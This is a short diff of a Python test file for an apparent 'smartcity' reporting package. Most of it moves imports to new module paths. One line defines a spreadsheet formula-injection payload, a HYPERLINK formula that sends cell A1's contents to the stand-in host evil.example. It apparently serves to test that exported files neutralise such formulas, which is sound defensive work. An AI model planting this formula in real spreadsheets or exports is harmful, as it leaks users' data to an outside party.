@@ -11,12 +11,12 @@ import openpyxl
 import pytest
 from pypdf import PdfReader
 
-from smartcity import brief, export
-from smartcity.charts import radar
 from smartcity.data import load_dataset
-from smartcity.i18n import LANGUAGES, translate
+from smartcity.files import brief, export
+from smartcity.i18n.catalog import LANGUAGES, translate
 from smartcity.model import City
 from smartcity.scenario import Scenario, replace_language
+from smartcity.views.charts import radar
 
 DATASET = load_dataset()
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
